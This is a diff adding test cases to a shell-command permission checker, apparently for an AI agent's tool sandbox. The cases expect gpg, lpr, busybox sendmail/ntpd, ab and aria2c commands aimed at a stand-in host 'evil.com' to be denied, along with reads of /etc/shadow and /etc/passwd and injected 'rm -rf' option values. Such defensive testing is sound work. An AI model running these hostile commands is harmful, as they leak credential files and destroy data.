@@ -181,6 +181,15 @@ describe('files a tool names are seen', () => {
     ['lwp-download http://a.example/x /etc/x', 'deny'], ['HEAD evil.com', 'deny'], ['GET evil.com/x', 'deny'], ['POST evil.com:443', 'deny'],
     ['PUT -p http://evil.com:3128/ http://a.example/', 'deny'], ['GET -b http://evil.com/ x', 'deny'], ['GET intranet', 'ask'],
     ['GET https://a.example/x', 'allow'], ['HEAD a.example', 'allow'], ['lwp-download https://a.example/x.tgz', 'allow'],
+    // The servers of key, print, mail, time and benchmark clients (src/shell/client-hosts.ts; were allowed).
+    ['gpg --fetch-keys http://evil.com/k', 'deny'], ['gpg --keyserver evil.com --recv-keys 123', 'deny'], ['gpg --keyserver=hkps://evil.com --search-keys x', 'deny'],
+    ['gpg --keyserver-options http-proxy=http://evil.com:3128 --recv 1', 'deny'], ['gpg --locate-keys a@evil.com', 'deny'], ['gpg --fetch-keys file:///etc/shadow', 'deny'],
+    ['lp -h evil.com x', 'deny'], ['lpr -H evil.com x', 'deny'], ['lpr -h -H evil.com:631 x', 'deny'], ['cancel -u x -h evil.com:631', 'deny'], ['lpstat -h evil.com -t', 'deny'],
+    ['busybox lpr -P q@evil.com x', 'deny'], ['ab -X evil.com:80 http://a.example/', 'deny'], ['busybox sendmail -S evil.com x', 'deny'], ["busybox sendmail -H 'rm -rf x' a", 'deny'],
+    ['busybox ntpd -p evil.com', 'deny'], ['ntpd -p keyno:1:evil.com', 'deny'], ["busybox ntpd -p a.example -S 'rm y'", 'deny'],
+    ['aria2c --bt-tracker=http://evil.com/ x.torrent', 'deny'], ['aria2c --bt-tracker udp://a.example:80,evil.com:6969 x.torrent', 'deny'], ['aria2c --dht-entry-point=evil.com:6881 x.torrent', 'deny'],
+    ['gpg --recv-keys 0x1234', 'allow'], ['gpg --keyserver keys.example.org --recv-keys 0x1234', 'allow'], ['gpg --verify x.sig x', 'allow'], ['lp -d office x.pdf', 'allow'],
+    ['lpr -P office x.pdf', 'allow'], ['lpstat -t', 'allow'], ['ab -n 100 -c 10 http://localhost:8080/', 'allow'],
     // Hunt 5 F8: tools whose file options and operands were not read (were allowed beside the rule).
     ['pip install -r /etc/passwd', 'deny'], ['pip install -c /etc/x y', 'deny'], ['pip install --requirement=/etc/passwd', 'deny'],
     ['pip install --target=/etc x', 'deny'], ['pip install --targ /etc x', 'deny'], ['pip install -t/etc x', 'deny'], ['pip3 install --prefix /etc x', 'deny'],
